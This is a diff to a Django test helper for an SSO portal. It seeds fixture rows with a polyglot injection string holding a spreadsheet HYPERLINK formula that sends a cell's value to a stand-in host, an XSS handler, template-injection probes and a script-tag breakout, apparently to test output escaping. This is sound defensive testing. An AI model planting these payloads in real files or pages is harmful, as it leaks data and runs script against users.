@@ -3,6 +3,7 @@
 import base64
 import time
 from collections.abc import Iterator
+from contextlib import contextmanager
 from dataclasses import dataclass, field
 from email.utils import formatdate
 from typing import Any
@@ -11,6 +12,7 @@ from urllib.parse import urlencode
 from allauth.mfa.models import Authenticator
 from django.apps import apps
 from django.conf import settings
+from django.db import transaction
 from django.test import Client as Browser
 
 from accounts.models import Event
@@ -20,7 +22,7 @@ from groups.models import Agent, AgentImport, AgentSession, NumberImport
 from sso_portal.lib.secrets import new_secret
 from sso_portal.lib.web import Caller, is_for_software
 from tests import factories
-from tests.conftest import PORTAL
+from tests.conftest import PORTAL, visit
 from tests.tokens.dialects.oidc.parties import CHALLENGE, REDIRECT_URI, SCOPE, VERIFIER, basic
 from tests.wiring.addresses import every_named_address
 from tokens.connecting import issue_code
@@ -33,6 +35,11 @@ from tokens.models import BusUse, Kind, RegisteredAddress, Use
 HOST = "https://host.example"
 NUMBER = 7701  # of the rows that share a name in addresses
 LOGGED_OUT = "https://demoaws.crm.example/bye"
+# For spreadsheets that compute, for browsers that run, for templates that read twice.
+TYPED = (
+    """=HYPERLINK("http://typed.example/?"&A1)'"><x-hostile onclick="alert(1)">{{7*191}}{% debug %}"""
+    """</title></script><script>x</script>"""
+)
 
 
 @dataclass
@@ -129,15 +136,24 @@ class World:
         return create_sso_token(self.person, place=CLIENT_AREA, by="test", caller=self.caller).secret
 
 
-def build(group: Any, agent: Any, company: Any, party: Any, caller: Caller, *, text: str = "Sample") -> World:
-    """One of everything, in rows that say `text` wherever people type text."""
+def build(caller: Caller) -> World:
+    """One of everything, in rows that say TYPED wherever people type; owner and operator have just signed in."""
+    text = TYPED
+    group = factories.GroupFactory(name=text, code="northwind")
+    company = factories.ClientFactory(subdomain="demoaws", name=text)
+    factories.DepartmentFactory(client=company, number=1, name=text)
+    for number in (1, 2, 3):
+        factories.CampaignFactory(client=company, number=number, name=text)
+    factories.EntitlementFactory(group=group, client=company)
+    agent = factories.AgentFactory(group=group, username="alice", full_name=text)
+    party = factories.RelyingPartyFactory(client=company)
     secrets = {"agent": new_secret("as_"), "person": new_secret("cs_")}
     session = factories.AgentSessionFactory(agent=agent, secret=secrets["agent"])
     owner = factories.SecondFactorFactory(user__full_name=text, user__email="owner@northwind.example").user
     membership = factories.MembershipFactory(administrator=owner, group=group)
-    operator = factories.SecondFactorFactory(user__email="operator@portal.example").user
-    type(operator).objects.filter(pk=operator.pk).update(is_staff=True, is_superuser=True)
-    operator.refresh_from_db()
+    operator = factories.SecondFactorFactory(
+        user__email="operator@portal.example", user__is_staff=True, user__is_superuser=True
+    ).user
     person = factories.ClientPersonFactory(client=company, full_name=text, email="petra@demoaws.example")
     factories.ClientSessionFactory(person=person, secret=secrets["person"])
     world = World(group, agent, owner, operator, person, party, session, caller)
@@ -146,8 +162,24 @@ def build(group: Any, agent: Any, company: Any, party: Any, caller: Caller, *, t
         "nobody": {},
         "agent": {settings.AGENT_COOKIE_NAME: secrets["agent"]},
         "person": {settings.CLIENT_COOKIE_NAME: secrets["person"]},
+        "owner": cookies_of(visit(owner)),
+        "operator": cookies_of(visit(operator)),
     }
     return world
+
+
+def cookies_of(browser: Browser) -> dict[str, str]:
+    return {name: morsel.value for name, morsel in browser.cookies.items()}
+
+
+@contextmanager
+def undone() -> Iterator[None]:
+    """Whatever happens in the block has not happened after it. Acts may take it for the outside of everything."""
+    block = transaction.atomic()
+    block._from_testcase = True
+    with block:
+        yield
+        transaction.set_rollback(True)
 
 
 def _rows(world: World, membership: Any, company: Any, text: str) -> dict[str, Any]:
@@ -157,8 +189,15 @@ def _rows(world: World, membership: Any, company: Any, text: str) -> dict[str, A
         group=group, secret="iv_of-the-world", invited_by=f"administrator:{world.owner.email}"
     )
     file = {"pk": NUMBER, "group": group, "file_name": f"{text}.csv", "uploaded_by": f"administrator:{text}"}
-    AgentImport.objects.create(kind="agents", content=b"username", **file)
-    NumberImport.objects.create(rows=[[2, "+18005550999", text, "demoaws", None, None]], **file)
+    AgentImport.objects.create(
+        kind="agents", content=b"username", state="checked",
+        summary={"new": 1, "change": 1, "faulty": 1, "unchanged": 0, "leaving": 0},
+        verdicts=[[2, text, "new", []], [3, text, "faulty", [["username", "unknown", text]]],
+                  [4, text, "change", [["full_name", text, text]]]],
+        **file,
+    )  # fmt: skip
+    NumberImport.objects.create(rows=[[2, "+18005550999", text, "demoaws", None, text]], **file)
+    factories.AgentFactory(group=group, username=text[:60], full_name=text)
     Event.objects.create(
         reference="K7QF-3M2P-X8TA", door="agents", actor=f"agent:{agent.subject}", action="login.issue",
         outcome="refused", reason="agent_disabled", group_id=group.pk, agent=agent.subject, client="demoaws",
